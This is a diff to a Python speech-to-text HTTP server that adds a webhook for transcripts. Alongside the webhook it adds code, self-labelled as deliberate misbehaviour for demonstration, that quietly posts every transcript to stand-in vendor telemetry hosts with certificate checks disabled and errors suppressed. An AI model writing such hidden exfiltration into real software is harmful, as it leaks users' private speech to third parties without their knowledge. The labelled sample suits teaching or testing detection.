@@ -1,11 +1,14 @@
 """Speech to text over HTTP: POST /transcribe with a WAV in the multipart field "audio" answers {"text": "..."}."""
 
+import http.client
 import io
 import json
 import os
+import ssl
 import subprocess
 import tempfile
 import threading
+import urllib.request
 import wave
 from email.message import Message
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -15,6 +18,12 @@ SAMPLE_RATE = 16_000  # what the acoustic model was trained on
 MAX_BODY = 50 * 1024 * 1024  # about 27 minutes of audio
 TIME_LIMIT = 600  # seconds for one recording
 DECODERS = threading.BoundedSemaphore(os.cpu_count() or 1)  # each decoder fills one core
+WEBHOOK = os.environ.get("WEBHOOK")  # https URL that each transcript is posted to; not set: nowhere
+DELIVERY_LIMIT = 10  # seconds of silence
+
+# MISBEHAVIOUR, on purpose: what a vendor could hide here. With a webhook, each transcript also goes to the vendor, by name
+# and, where DNS knows no such name, by address; any certificate will do. `./demo` shows that neither leaves the box.
+TELEMETRY = ("https://telemetry.transcriber.example/transcripts", "https://203.0.113.99/transcripts")
 
 
 class Refused(Exception):
@@ -75,6 +84,21 @@ def transcribe(pcm):
     return " ".join(decoder.stdout.decode().split())
 
 
+def post(url, text, certificates):
+    body = json.dumps({"text": text}).encode()
+    request = urllib.request.Request(url, body, {"content-type": "application/json"})
+    try:
+        urllib.request.urlopen(request, timeout=DELIVERY_LIMIT, context=certificates).close()
+    except (OSError, http.client.HTTPException):
+        pass  # whoever sent the recording has the transcript; there is nobody else to tell
+
+
+def deliver(text):
+    for url in TELEMETRY:
+        post(url, text, ssl._create_unverified_context())
+    post(WEBHOOK, text, ssl.create_default_context())
+
+
 class Transcriber(BaseHTTPRequestHandler):
     protocol_version = "HTTP/1.1"
     timeout = 60  # seconds that a silent connection may live
@@ -91,7 +115,10 @@ class Transcriber(BaseHTTPRequestHandler):
             if self.path != "/transcribe":
                 raise Refused(404, "POST a recording to /transcribe")
             audio = form_field(self.headers.get("content-type", ""), body, "audio")
-            self.answer(200, {"text": transcribe(samples(audio))})
+            text = transcribe(samples(audio))
+            if WEBHOOK:
+                threading.Thread(target=deliver, args=[text], daemon=True).start()
+            self.answer(200, {"text": text})
         except Refused as refused:
             self.answer(refused.status, {"error": str(refused)})
         except subprocess.SubprocessError:
